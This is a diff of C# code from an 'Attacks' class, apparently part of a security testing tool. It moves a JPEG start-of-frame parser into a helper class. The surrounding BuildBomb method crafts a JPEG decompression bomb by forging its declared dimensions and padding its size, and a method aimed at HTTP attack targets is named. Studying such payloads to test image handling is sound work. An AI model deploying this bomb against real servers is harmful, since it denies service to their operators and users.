@@ -49,7 +49,7 @@ internal static class Attacks
     public static byte[] BuildBomb(byte[] jpeg, int size = BombBytes, int width = BombWidth, int height = BombHeight)
     {
         var patched = (byte[])jpeg.Clone();
-        var sof = FindSof(patched) ?? throw new ArgumentException("no SOF marker in the JPEG", nameof(jpeg));
+        var sof = JpegHeader.FindStartOfFrame(patched) ?? throw new ArgumentException("no SOF marker in the JPEG", nameof(jpeg));
         BinaryPrimitives.WriteUInt16BigEndian(patched.AsSpan(sof + 5), (ushort)height);
         BinaryPrimitives.WriteUInt16BigEndian(patched.AsSpan(sof + 7), (ushort)width);
         var need = size - patched.Length;
@@ -69,21 +69,6 @@ internal static class Attacks
         }
         patched.AsSpan(2).CopyTo(bomb.AsSpan(pos));
         return bomb;
-    }
-
-    /// <summary>Offset of the SOF0–SOF15 marker (not DHT, JPG, DAC), walking the segments from SOI; null when none.</summary>
-    public static int? FindSof(ReadOnlySpan<byte> jpeg)
-    {
-        var pos = 2;
-        while (pos + 4 <= jpeg.Length)
-        {
-            if (jpeg[pos] != 0xFF) return null;
-            var marker = jpeg[pos + 1];
-            if (marker is >= 0xC0 and <= 0xCF and not 0xC4 and not 0xC8 and not 0xCC) return pos;
-            if (marker is 0xD9 or 0xDA) return null;
-            pos += 2 + BinaryPrimitives.ReadUInt16BigEndian(jpeg[(pos + 2)..]);
-        }
-        return null;
     }
 
     private static async Task<string> BombHttpAsync(AttackTarget t, CancellationToken ct)
